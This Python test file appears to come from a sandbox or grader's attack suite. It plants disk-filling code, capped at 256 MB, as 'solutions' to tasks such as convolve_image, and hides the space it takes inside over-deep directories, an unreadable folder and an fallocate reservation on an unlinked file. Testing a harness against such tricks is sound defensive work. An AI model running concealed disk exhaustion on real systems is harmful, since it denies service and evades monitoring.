"""Fills the disk where nobody looks: too deep, in unreadable folders, past the end of a file."""

from tests.attacks.attack import Attack
from tests.attacks.sources import TRICKS, TRICKY

ATTACK = Attack(
    wants="a disk without room that looks empty; where nothing stops it, it stops at 256 MB each",
    top=TRICKS
    + """
import ctypes, os

TOO_MUCH = 256 << 20
block = bytes(1 << 20)
here = os.getcwd()

def fill():
    size, number = 0, 0
    while size < TOO_MUCH:
        with open(f"file-{number}", "wb", buffering=0) as file:
            for _ in range(15):
                size += file.write(block)
        number += 1
    return size
""",
    # In cells of their own, for a cell that goes too far is left out.
    solutions={
        **TRICKY,
        "convolve_image": """
@trick
def too_deep_for_a_path():
    try:
        for _ in range(20):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
        return fill()
    finally:
        os.chdir(here)
""",
        "convolve": """
@trick
def in_an_unreadable_folder():
    os.umask(0)
    os.mkdir("blind", 0o300)
    os.chdir("blind")
    try:
        return fill()
    finally:
        os.chdir(here)
""",
        "count_parameters": """
@trick
def past_the_end_of_a_nameless_file():
    file = os.open("reserved", os.O_CREAT | os.O_WRONLY)
    os.unlink("reserved")
    libc = ctypes.CDLL(None, use_errno=True)
    keep_size = 1
    if libc.fallocate(file, keep_size, ctypes.c_long(0), ctypes.c_long(TOO_MUCH)) != 0:
        raise OSError(ctypes.get_errno(), "fallocate")
    return os.fstat(file).st_blocks * 512 >= TOO_MUCH
""",
    },
    deserves=3.0,
)
